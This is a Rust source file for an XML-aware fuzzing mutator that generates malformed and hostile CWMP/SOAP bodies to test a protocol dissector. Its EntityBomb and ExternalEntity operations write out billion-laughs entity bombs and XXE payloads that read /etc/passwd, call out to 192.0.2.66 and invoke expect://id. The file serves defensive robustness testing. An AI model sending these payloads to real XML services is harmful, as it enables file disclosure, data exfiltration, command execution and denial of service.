// SPDX-License-Identifier: GPL-2.0-or-later
//! An XML-aware mutator for CWMP bodies.
//!
//! Byte-level fuzzing (`editcap -E`) mostly breaks the framing below HTTP, so few of its mutants reach
//! the CWMP decoder. This mutator works on the body alone, knows where elements start and end, and makes
//! the changes hostile or broken CWMP messages are made of: elements truncated, duplicated, dropped or
//! swapped; random attributes; deep nesting; huge text; invalid UTF-8; entity bombs and external
//! entities; renamed elements and namespaces; type-confusing values. The HTTP framing is rebuilt around
//! the mutated body afterwards (see [`crate::framing`]), so Content-Length always matches and every
//! mutant is handed to the dissector.
//!
//! The element scan is deliberately tolerant (it must work on already-mutated input) and linear.

use crate::rng::Rng;

/// One kind of mutation.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Op {
    Truncate,
    Duplicate,
    Drop,
    Swap,
    Attribute,
    Nest,
    HugeText,
    InvalidUtf8,
    EntityBomb,
    ExternalEntity,
    Rename,
    Retext,
    Bytes,
    Splice,
    Namespace,
    Prolog,
}

/// Every mutation, for callers that pick one themselves (property tests).
pub const ALL_OPS: &[Op] = &[
    Op::Truncate,
    Op::Duplicate,
    Op::Drop,
    Op::Swap,
    Op::Attribute,
    Op::Nest,
    Op::HugeText,
    Op::InvalidUtf8,
    Op::EntityBomb,
    Op::ExternalEntity,
    Op::Rename,
    Op::Retext,
    Op::Bytes,
    Op::Splice,
    Op::Namespace,
    Op::Prolog,
];

/// An element found by [`scan`]: byte offsets into the body.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Span {
    /// The `<` of the start tag.
    pub start: usize,
    /// Just after the start tag's `>`.
    pub open_end: usize,
    /// The `<` of the end tag (`open_end` for an empty element).
    pub close_start: usize,
    /// Just after the end tag's `>`.
    pub end: usize,
    /// Bytes of the element name in the start tag.
    pub name: (usize, usize),
}

impl Span {
    /// True when the content holds no markup (a leaf with text).
    pub fn is_leaf(&self, body: &[u8]) -> bool {
        !body[self.open_end..self.close_start].contains(&b'<')
    }
}

fn find(hay: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    if from >= hay.len() || needle.is_empty() {
        return None;
    }
    hay[from..]
        .windows(needle.len())
        .position(|w| w == needle)
        .map(|p| p + from)
}

/// End of a tag starting at `lt` (index just after its `>`), skipping quoted attribute values.
fn tag_end(body: &[u8], lt: usize) -> Option<usize> {
    let mut quote = None;
    for (i, &b) in body.iter().enumerate().skip(lt + 1) {
        match quote {
            Some(q) if b == q => quote = None,
            Some(_) => {}
            None if b == b'"' || b == b'\'' => quote = Some(b),
            None if b == b'>' => return Some(i + 1),
            None if b == b'<' => return None,
            None => {}
        }
    }
    None
}

fn is_name_byte(b: u8) -> bool {
    !(b.is_ascii_whitespace() || b == b'/' || b == b'>' || b == b'<' || b == b'=')
}

/// Finds the elements of a body, in document order of their start tags. Tolerant: unmatched end
/// tags are ignored and unclosed elements are left out. Linear in the body's length.
pub fn scan(body: &[u8]) -> Vec<Span> {
    struct Open {
        start: usize,
        open_end: usize,
        name: (usize, usize),
        slot: usize,
    }
    let mut out: Vec<Option<Span>> = Vec::new();
    let mut stack: Vec<Open> = Vec::new();
    let mut i = 0;
    while i < body.len() {
        let Some(p) = body[i..].iter().position(|&b| b == b'<') else {
            break;
        };
        let lt = i + p;
        let rest = &body[lt..];
        if rest.starts_with(b"<!--") {
            i = find(body, lt + 4, b"-->").map_or(body.len(), |e| e + 3);
            continue;
        }
        if rest.starts_with(b"<![CDATA[") {
            i = find(body, lt + 9, b"]]>").map_or(body.len(), |e| e + 3);
            continue;
        }
        if rest.starts_with(b"<?") || rest.starts_with(b"<!") {
            i = tag_end(body, lt).unwrap_or(lt + 1);
            continue;
        }
        let Some(gt) = tag_end(body, lt) else {
            i = lt + 1;
            continue;
        };
        if rest.starts_with(b"</") {
            let n0 = lt + 2;
            let n1 = n0
                + body[n0..gt]
                    .iter()
                    .take_while(|&&b| is_name_byte(b))
                    .count();
            let name = &body[n0..n1];
            if let Some(k) = stack
                .iter()
                .rposition(|o| &body[o.name.0..o.name.1] == name)
            {
                stack.truncate(k + 1);
                if let Some(o) = stack.pop() {
                    out[o.slot] = Some(Span {
                        start: o.start,
                        open_end: o.open_end,
                        close_start: lt,
                        end: gt,
                        name: o.name,
                    });
                }
            }
            i = gt;
            continue;
        }
        let n0 = lt + 1;
        let n1 = n0
            + body[n0..gt]
                .iter()
                .take_while(|&&b| is_name_byte(b))
                .count();
        if n1 == n0 {
            i = lt + 1;
            continue;
        }
        if body[gt - 2] == b'/' {
            out.push(Some(Span {
                start: lt,
                open_end: gt,
                close_start: gt,
                end: gt,
                name: (n0, n1),
            }));
        } else {
            stack.push(Open {
                start: lt,
                open_end: gt,
                name: (n0, n1),
                slot: out.len(),
            });
            out.push(None);
        }
        i = gt;
    }
    out.into_iter().flatten().collect()
}

/// Limits of one mutation run.
#[derive(Clone, Copy, Debug)]
pub struct Config {
    /// Mutations applied to one body (at least one).
    pub max_ops: usize,
    /// Bodies never grow beyond this many bytes (a mutation that would is skipped).
    pub max_size: usize,
}

impl Default for Config {
    fn default() -> Self {
        Config {
            max_ops: 4,
            max_size: 1 << 20,
        }
    }
}

/// Applies 1..=`cfg.max_ops` random mutations to `body`; `donor` gives elements to splice in.
pub fn mutate(rng: &mut Rng, body: &[u8], donor: &[u8], cfg: &Config) -> (Vec<u8>, Vec<Op>) {
    let mut b = body.to_vec();
    let n = rng.range(1, cfg.max_ops.max(1));
    let mut ops = Vec::with_capacity(n);
    for _ in 0..n {
        let op = *rng.pick(ALL_OPS);
        if let Some(next) = apply(op, rng, &b, donor) {
            if next.len() <= cfg.max_size {
                b = next;
                ops.push(op);
            }
        }
    }
    (b, ops)
}

fn splice(body: &[u8], from: usize, to: usize, with: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(body.len() - (to - from) + with.len());
    out.extend_from_slice(&body[..from]);
    out.extend_from_slice(with);
    out.extend_from_slice(&body[to..]);
    out
}

const NAMES: &[&str] = &[
    "Inform",
    "InformResponse",
    "GetParameterValuesResponse",
    "SetParameterValues",
    "Fault",
    "cwmp:Fault",
    "soap-env:Fault",
    "ParameterValueStruct",
    "ParameterList",
    "Value",
    "Name",
    "EventStruct",
    "EventCode",
    "DeviceId",
    "OUI",
    "ID",
    "cwmp:ID",
    "cwmp:HoldRequests",
    "soap-env:Body",
    "soap-env:Header",
    "soap-env:Envelope",
    "Body",
    "Operations",
    "X_ACME_Vendor",
    "zz:Undeclared",
    "a",
    "INFORM",
    "parametervaluestruct",
    "cwmp:GetRPCMethods",
    "cwmp:Download",
];

const ATTRS: &[&str] = &[
    " a=\"x\"",
    " xsi:type=\"xsd:unsignedInt\"",
    " xsi:type=\"xsd:int\"",
    " xsi:type=\"xsd:boolean\"",
    " xsi:type=\"xsd:dateTime\"",
    " xsi:type=\"q:zz\"",
    " xsi:type=\"\"",
    " xsi:type=\"xsd:\"",
    " xsi:type=\"cwmp:InstallOpStruct\"",
    " soap-enc:arrayType=\"cwmp:ParameterValueStruct[4294967296]\"",
    " soap-enc:arrayType=\"cwmp:ParameterValueStruct[0]\"",
    " soap-enc:arrayType=\"x[]\"",
    " soap-enc:arrayType=\"[[[[\"",
    " soap-enc:arrayType=\"]\"",
    " arraytype=\"xsd:string[0007]\"",
    " xmlns:cwmp=\"urn:dslforum-org:cwmp-1-4\"",
    " xmlns:cwmp=\"urn:dslforum-org:cwmp-99-99\"",
    " xmlns=\"urn:x\"",
    " xmlns:p=\"\"",
    " xmlns:soap-env=\"http://www.w3.org/2003/05/soap-envelope\"",
    " zz:a=\"1\"",
    " soap-env:mustUnderstand=\"maybe\"",
    " soap-env:mustUnderstand=\"1\"",
    " a=\"1\" a=\"2\"",
    " a=\"&lt;&#0;&#xD800;&#x110000;&bogus;&\"",
    " a=1",
    " a",
    " ='v'",
    " xmlns:=\"u\"",
];

const TEXTS: &[&str] = &[
    "",
    " ",
    "-1",
    "0",
    "4294967295",
    "4294967296",
    "-2147483649",
    "99999999999999999999",
    "+7",
    "0x10",
    "1e3",
    "true",
    "TRUE",
    "2",
    "0001-01-01T00:00:00Z",
    "0001-01-03T01:00:00Z",
    "9999-12-31T23:59:60Z",
    "2024-02-30T25:61:61+99:99",
    "2024-05-01T10:00:00.99999999999999999999Z",
    "2024-05-01T10:00:00",
    "-2024-05-01T10:00:00Z",
    "1 BOOT",
    "4 VALUE CHANGED",
    "999 NEW",
    "M Reboot",
    "M X_ACME_Op",
    "X 00AB12 Evt",
    "X",
    "9003",
    "8005",
    "9899",
    "1 Firmware Upgrade Image",
    "X 0012AB Foo",
    "6 Unknown",
    "00ab12",
    "\u{FFFF}\u{FFFE}",
    "&#0;&#1;&#x1F600;&#65;",
    "&amp;&lt;&gt;&quot;&apos;",
    "&unknown;",
    "&#;&#x;&#99999999999;",
    "<![CDATA[<raw>&amp;]]>",
    "a<![CDATA[b]]>c&amp;d",
    "\t\r\n",
    "\u{1}\u{2}\u{8}",
];

const BAD_UTF8: &[&[u8]] = &[
    b"\xff",
    b"\xfe\xff",
    b"\xc0\x80",
    b"\xc3",
    b"\xed\xa0\x80",
    b"\x80\x80",
    b"\xf4\x90\x80\x80",
    b"\xe2\x82",
    b"\x00",
    b"\x01\x02\x1f",
    b"\xef\xbb\xbf",
];

fn pick_elem(rng: &mut Rng, elems: &[Span]) -> Option<Span> {
    if elems.is_empty() {
        None
    } else {
        Some(*rng.pick(elems))
    }
}

fn leaf(rng: &mut Rng, body: &[u8], elems: &[Span]) -> Option<Span> {
    let leaves: Vec<Span> = elems.iter().copied().filter(|e| e.is_leaf(body)).collect();
    pick_elem(rng, &leaves).or_else(|| pick_elem(rng, elems))
}

/// Applies one mutation; `None` when it does not apply to this body.
pub fn apply(op: Op, rng: &mut Rng, body: &[u8], donor: &[u8]) -> Option<Vec<u8>> {
    let elems = scan(body);
    match op {
        Op::Truncate => {
            if body.is_empty() {
                return None;
            }
            let at = match pick_elem(rng, &elems) {
                Some(e) if rng.chance(1, 2) => rng.range(e.start, e.end),
                _ => rng.below(body.len()),
            };
            Some(body[..at].to_vec())
        }
        Op::Duplicate => {
            let e = pick_elem(rng, &elems)?;
            let times = if rng.chance(1, 8) {
                rng.range(50, 3000)
            } else {
                rng.range(1, 3)
            };
            let el = &body[e.start..e.end];
            let mut with = Vec::with_capacity(el.len() * (times + 1));
            for _ in 0..=times {
                with.extend_from_slice(el);
            }
            Some(splice(body, e.start, e.end, &with))
        }
        Op::Drop => {
            let e = pick_elem(rng, &elems)?;
            Some(splice(body, e.start, e.end, b""))
        }
        Op::Swap => {
            let a = pick_elem(rng, &elems)?;
            let others: Vec<Span> = elems
                .iter()
                .copied()
                .filter(|b| b.start >= a.end || b.end <= a.start)
                .collect();
            let b = pick_elem(rng, &others)?;
            let (x, y) = if a.start < b.start { (a, b) } else { (b, a) };
            let mut out = Vec::with_capacity(body.len());
            out.extend_from_slice(&body[..x.start]);
            out.extend_from_slice(&body[y.start..y.end]);
            out.extend_from_slice(&body[x.end..y.start]);
            out.extend_from_slice(&body[x.start..x.end]);
            out.extend_from_slice(&body[y.end..]);
            Some(out)
        }
        Op::Attribute => {
            let e = pick_elem(rng, &elems)?;
            // Before the closing `>` or `/>` of the start tag.
            let mut at = e.open_end - 1;
            if at > e.start && body[at - 1] == b'/' {
                at -= 1;
            }
            let mut with = Vec::new();
            let n = if rng.chance(1, 10) {
                rng.range(100, 3000)
            } else {
                rng.range(1, 3)
            };
            for k in 0..n {
                if n > 3 {
                    // Many distinct attributes (duplicates are caught by well-formedness checks).
                    with.extend_from_slice(format!(" a{k}=\"{k}\"").as_bytes());
                } else {
                    with.extend_from_slice(rng.pick(ATTRS).as_bytes());
                }
            }
            Some(splice(body, at, at, &with))
        }
        Op::Nest => {
            let e = pick_elem(rng, &elems)?;
            let depth = *rng.pick(&[
                2usize, 10, 63, 64, 65, 99, 100, 101, 127, 128, 129, 600, 5000,
            ]);
            let name: String = match rng.below(4) {
                0 => String::from_utf8_lossy(&body[e.name.0..e.name.1]).into_owned(),
                1 => "X_ACME_Nest".into(),
                2 => "cwmp:Inform".into(),
                _ => "ParameterValueStruct".into(),
            };
            let (open, close) = (format!("<{name}>"), format!("</{name}>"));
            let (from, to) = if rng.chance(1, 2) && e.close_start > e.open_end {
                (e.open_end, e.close_start)
            } else {
                (e.start, e.end)
            };
            let mut with = Vec::with_capacity((to - from) + depth * (open.len() + close.len()));
            for _ in 0..depth {
                with.extend_from_slice(open.as_bytes());
            }
            with.extend_from_slice(&body[from..to]);
            if !rng.chance(1, 6) {
                for _ in 0..depth {
                    with.extend_from_slice(close.as_bytes());
                }
            }
            Some(splice(body, from, to, &with))
        }
        Op::HugeText => {
            let e = leaf(rng, body, &elems)?;
            let n = *rng.pick(&[1_000usize, 20_000, 70_000, 300_000]);
            let unit: &[u8] = match rng.below(6) {
                0 => b"A",
                1 => b"&amp;",
                2 => b"&#x1F600;",
                3 => "\u{e9}\u{4e2d}".as_bytes(),
                4 => b" \t\r\n",
                _ => b"&e;",
            };
            let with: Vec<u8> = unit.iter().copied().cycle().take(n).collect();
            let at = if e.close_start > e.open_end {
                (e.open_end, e.close_start)
            } else {
                return Some(splice(
                    body,
                    e.start,
                    e.end,
                    &[
                        &body[e.name.0 - 1..e.name.1],
                        b">",
                        &with[..],
                        b"</",
                        &body[e.name.0..e.name.1],
                        b">",
                    ]
                    .concat(),
                ));
            };
            Some(splice(body, at.0, at.1, &with))
        }
        Op::InvalidUtf8 => {
            let bad = *rng.pick(BAD_UTF8);
            let at = match (rng.below(3), leaf(rng, body, &elems)) {
                (0, Some(e)) => rng.range(e.open_end, e.close_start),
                (1, Some(e)) => rng.range(e.name.0, e.name.1),
                _ => rng.below(body.len() + 1),
            };
            Some(splice(body, at, at, bad))
        }
        Op::EntityBomb => {
            let (dtd, reference) = if rng.chance(1, 2) {
                // "Billion laughs": ten levels of ten references each.
                let mut d = String::from("<!DOCTYPE soap-env:Envelope [\n<!ENTITY lol \"lol\">\n");
                let mut prev = "lol".to_owned();
                for k in 1..10 {
                    let name = format!("lol{k}");
                    d.push_str(&format!("<!ENTITY {name} \""));
                    for _ in 0..10 {
                        d.push_str(&format!("&{prev};"));
                    }
                    d.push_str("\">\n");
                    prev = name;
                }
                d.push_str("]>\n");
                (d, format!("&{prev};"))
            } else {
                // Quadratic blow-up: one large entity referenced many times.
                let big = "x".repeat(rng.range(1_000, 30_000));
                (
                    format!("<!DOCTYPE r [<!ENTITY big \"{big}\">]>\n"),
                    "&big;".repeat(rng.range(10, 3_000)),
                )
            };
            Some(with_doctype(rng, body, &elems, &dtd, &reference))
        }
        Op::ExternalEntity => {
            let dtd = *rng.pick(&[
                "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n",
                "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"http://192.0.2.66/secret\">]>\n",
                "<!DOCTYPE r [<!ENTITY % pe SYSTEM \"http://192.0.2.66/evil.dtd\"> %pe; <!ENTITY xxe \"&#x25;\">]>\n",
                "<!DOCTYPE r PUBLIC \"-//ACME//X//EN\" \"http://192.0.2.66/x.dtd\">\n",
                "<!DOCTYPE r SYSTEM \"file:///dev/zero\" [<!ENTITY xxe SYSTEM \"file:///dev/random\">]>\n",
                "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"expect://id\"><!ELEMENT r ANY><!ATTLIST r a CDATA #FIXED \"&xxe;\">]>\n",
            ]);
            Some(with_doctype(rng, body, &elems, dtd, "&xxe;"))
        }
        Op::Rename => {
            let e = pick_elem(rng, &elems)?;
            let new: Vec<u8> = match rng.below(5) {
                0 => body[e.name.0..e.name.1].to_ascii_lowercase(),
                1 => body[e.name.0..e.name.1].to_ascii_uppercase(),
                2 => {
                    let n = &body[e.name.0..e.name.1];
                    let local = n.iter().position(|&b| b == b':').map_or(n, |c| &n[c + 1..]);
                    [
                        rng.pick(&["", "soap:", "SOAP-ENV:", "zz:", "cwmp:", ":"])
                            .as_bytes(),
                        local,
                    ]
                    .concat()
                }
                3 => "N".repeat(rng.range(200, 70_000)).into_bytes(),
                _ => rng.pick(NAMES).as_bytes().to_vec(),
            };
            // Rename the end tag too, unless we want a mismatch.
            let mut out = body.to_vec();
            if e.close_start > e.open_end && !rng.chance(1, 5) {
                let c0 = e.close_start + 2;
                let c1 = c0 + (e.name.1 - e.name.0);
                if c1 <= out.len() && out[c0..c1] == body[e.name.0..e.name.1] {
                    out = splice(&out, c0, c1, &new);
                }
            }
            Some(splice(&out, e.name.0, e.name.1, &new))
        }
        Op::Retext => {
            let e = leaf(rng, body, &elems)?;
            if e.close_start == e.open_end {
                return None;
            }
            Some(splice(
                body,
                e.open_end,
                e.close_start,
                rng.pick(TEXTS).as_bytes(),
            ))
        }
        Op::Bytes => {
            let mut out = body.to_vec();
            for _ in 0..rng.range(1, 8) {
                let at = rng.below(out.len() + 1);
                let special: &[u8] = rng.pick::<&[u8]>(&[
                    &b"<"[..],
                    b">",
                    b"&",
                    b"\"",
                    b"'",
                    b"]]>",
                    b"<![CDATA[",
                    b"<!--",
                    b"-->",
                    b"<?",
                    b"?>",
                    b"</",
                    b"/>",
                    b"=",
                    b":",
                    b"\0",
                    b"<!DOCTYPE",
                ]);
                match rng.below(3) {
                    0 if at < out.len() => out[at] = rng.byte(),
                    1 if at < out.len() => {
                        out.remove(at);
                    }
                    _ => out.splice(at..at, special.iter().copied()).for_each(drop),
                }
            }
            Some(out)
        }
        Op::Splice => {
            let d = scan(donor);
            let from = pick_elem(rng, &d)?;
            let piece = &donor[from.start..from.end];
            let at = match pick_elem(rng, &elems) {
                Some(e) if e.close_start > e.open_end => rng
                    .pick(&[e.open_end, e.close_start, e.start, e.end])
                    .to_owned(),
                Some(e) => e.end,
                None => rng.below(body.len() + 1),
            };
            Some(splice(body, at, at, piece))
        }
        Op::Namespace => {
            let needles: &[&[u8]] = &[
                b"urn:dslforum-org:cwmp-1-",
                b"http://schemas.xmlsoap.org/soap/envelope/",
                b"xmlns:",
            ];
            let needle = *rng.pick(needles);
            let at = find(body, 0, needle)?;
            let with: &[u8] = match needle {
                b"xmlns:" => {
                    rng.pick::<&[u8]>(&[&b"xmlnz:"[..], b"xmlns:zz", b"xmlns:cwmp", b"xmlns"])
                }
                b"urn:dslforum-org:cwmp-1-" => rng.pick::<&[u8]>(&[
                    &b"urn:dslforum-org:cwmp-1-0\" x=\""[..],
                    b"urn:dslforum-org:cwmp-99-",
                    b"urn:dslforum-org:cwmp-65536-",
                    b"urn:dslforum-org:cwmp--",
                    b"urn:dslforum-org:cwmp-1-99999",
                    b"URN:DSLFORUM-ORG:CWMP-1-",
                    b"urn:broadband-forum-org:cwmp-1-",
                ]),
                _ => rng.pick::<&[u8]>(&[
                    &b"http://www.w3.org/2003/05/soap-envelope"[..],
                    b"http://schemas.xmlsoap.org/soap/envelope",
                    b"",
                ]),
            };
            Some(splice(body, at, at + needle.len(), with))
        }
        Op::Prolog => {
            let add: &[u8] = rng.pick::<&[u8]>(&[
                &b"\xef\xbb\xbf"[..],
                b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>",
                b"<?xml version=\"1.0\" encoding=\"UTF-16\"?>",
                b"<?xml version=\"1.1\"?>",
                b"  \r\n\t",
                b"<!-- comment -- with double dash -->",
                b"<?pi data?>",
                b"\xef\xbb\xbf\xef\xbb\xbf",
            ]);
            if rng.chance(1, 3) {
                // Trailing content: garbage or a second root element.
                let tail: &[u8] = rng.pick::<&[u8]>(&[
                    &b"<second/>"[..],
                    b"garbage",
                    b"</soap-env:Envelope>",
                    b"<",
                ]);
                return Some([body, tail].concat());
            }
            Some([add, body].concat())
        }
    }
}

/// Puts a DOCTYPE before the root (after an XML declaration) and a reference into some text.
fn with_doctype(rng: &mut Rng, body: &[u8], elems: &[Span], dtd: &str, reference: &str) -> Vec<u8> {
    let root = elems.iter().map(|e| e.start).min().unwrap_or(0);
    let mut out = splice(body, root, root, dtd.as_bytes());
    let shift = dtd.len();
    if let Some(e) = leaf(rng, body, elems) {
        let at = e.open_end + if e.open_end >= root { shift } else { 0 };
        if e.close_start > e.open_end {
            out = splice(&out, at, at, reference.as_bytes());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const X: &[u8] =
        b"<?xml version=\"1.0\"?><a x='1>2'><b>t</b><c/><!-- <d> --><e><![CDATA[<f>]]></e></a>";

    #[test]
    fn scan_finds_elements() {
        let e = scan(X);
        let names: Vec<&[u8]> = e.iter().map(|s| &X[s.name.0..s.name.1]).collect();
        assert_eq!(names, vec![&b"a"[..], b"b", b"c", b"e"]);
        assert_eq!(&X[e[1].start..e[1].end], b"<b>t</b>");
        assert_eq!(&X[e[1].open_end..e[1].close_start], b"t");
        assert_eq!(&X[e[2].start..e[2].end], b"<c/>");
        assert!(e[1].is_leaf(X));
        assert!(!e[0].is_leaf(X));
    }

    #[test]
    fn scan_tolerates_garbage() {
        for g in [
            &b"<"[..],
            b"</a>",
            b"<a",
            b"<a b='>",
            b"<<>>",
            b"<a></b></a>",
            b"\xff<\xfe>",
        ] {
            let _ = scan(g);
        }
    }

    #[test]
    fn every_op_runs_on_every_kind_of_input() {
        let seeds = crate::seeds::builtin();
        let mut rng = Rng::new(42);
        for (_, body) in &seeds {
            for &op in ALL_OPS {
                for input in [&body[..], b"", b"<", b"<a/>", b"\xff\xfe"] {
                    let _ = apply(op, &mut rng, input, &seeds[0].1);
                }
            }
        }
    }

    #[test]
    fn mutants_respect_the_size_cap() {
        let seeds = crate::seeds::builtin();
        let cfg = Config {
            max_ops: 6,
            max_size: 100_000,
        };
        for i in 0..300 {
            let mut rng = Rng::for_mutant(1, i);
            let (m, _) = mutate(
                &mut rng,
                &seeds[i as usize % seeds.len()].1,
                &seeds[0].1,
                &cfg,
            );
            assert!(m.len() <= 100_000);
        }
    }
}
